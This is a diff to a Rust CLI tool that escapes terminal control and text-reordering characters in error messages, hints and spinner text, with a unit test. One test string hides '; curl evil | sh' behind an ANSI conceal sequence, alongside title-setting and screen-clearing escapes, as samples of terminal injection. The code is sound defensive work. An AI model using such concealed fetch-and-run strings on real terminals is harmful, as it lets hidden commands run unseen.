@@ -7,6 +7,7 @@ pub mod style;
 pub use style::{ColorChoice, Paint, Stream, paint};
 
 use crate::error::{Error, Result};
+use std::borrow::Cow;
 use std::io::Write;
 
 /// Writes the command's main output to stdout. A closed pipe (`groundwork list | head -1`) is not
@@ -31,15 +32,48 @@ pub fn say(text: &str) {
 }
 
 /// An error as the person reads it: `error:` and the message, then `hint:` and the next step.
+/// Messages quote blueprints and values, so each of their lines is shown [`visible`].
 pub fn error_report(error: &Error) -> String {
-    let mut message = format!("{} {error}\n", paint(Stream::Stderr, Paint::Red, "error:"));
+    let mut message = format!(
+        "{} {}\n",
+        paint(Stream::Stderr, Paint::Red, "error:"),
+        visible_lines(&error.to_string())
+    );
     if let Some(hint) = error.hint() {
         message.push_str(&format!(
-            "{} {hint}\n",
-            paint(Stream::Stderr, Paint::Cyan, "hint:")
+            "{} {}\n",
+            paint(Stream::Stderr, Paint::Cyan, "hint:"),
+            visible_lines(&hint)
         ));
     }
     message
+}
+
+/// Text from a blueprint, a value or a file, as it may reach the terminal: every control
+/// character (C0, DEL and C1, which start ANSI and OSC sequences, and newlines) and every
+/// character that reorders text on screen (bidirectional overrides and isolates) is written as
+/// its Rust escape (`\u{1b}`, `\n`, `\u{202e}`). So a printed command is the command that runs,
+/// and no text can colour, hide, retitle or rewrite what is around it. Everything groundwork
+/// prints from a blueprint goes through here.
+pub fn visible(text: &str) -> Cow<'_, str> {
+    let hides_text = crate::check::is_terminal_control;
+    if !text.chars().any(hides_text) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if hides_text(c) {
+            out.extend(c.escape_default());
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// [`visible`] for text of several lines: each line escaped, the line breaks kept.
+pub fn visible_lines(text: &str) -> String {
+    text.split('\n').map(visible).collect::<Vec<_>>().join("\n")
 }
 
 pub fn to_json<T: serde::Serialize>(value: &T) -> String {
@@ -81,6 +115,7 @@ impl Spinner {
         let bar = indicatif::ProgressBar::new_spinner();
         bar.set_draw_target(indicatif::ProgressDrawTarget::stderr());
         bar.enable_steady_tick(std::time::Duration::from_millis(100));
+        let message = visible(message);
         bar.set_message(message.to_string());
         if bar.is_hidden() {
             say(&format!("{message}\n"));
@@ -90,5 +125,27 @@ impl Spinner {
 
     pub fn stop(self) {
         self.bar.finish_and_clear();
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn control_and_reordering_characters_are_shown_escaped() {
+        assert_eq!(visible("make test"), "make test");
+        assert!(matches!(visible("plain"), Cow::Borrowed(_)));
+        assert_eq!(
+            visible("make test\x1b[8m; curl evil | sh\x1b[0m"),
+            "make test\\u{1b}[8m; curl evil | sh\\u{1b}[0m"
+        );
+        assert_eq!(
+            visible("\x1b]0;title\x07a\tb\nc\u{9b}d\u{7f}"),
+            "\\u{1b}]0;title\\u{7}a\\tb\\nc\\u{9b}d\\u{7f}"
+        );
+        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
+        assert_eq!(visible("naïve – ok ✓"), "naïve – ok ✓");
+        assert_eq!(visible_lines("one\x1b[2J\ntwo"), "one\\u{1b}[2J\ntwo");
     }
 }
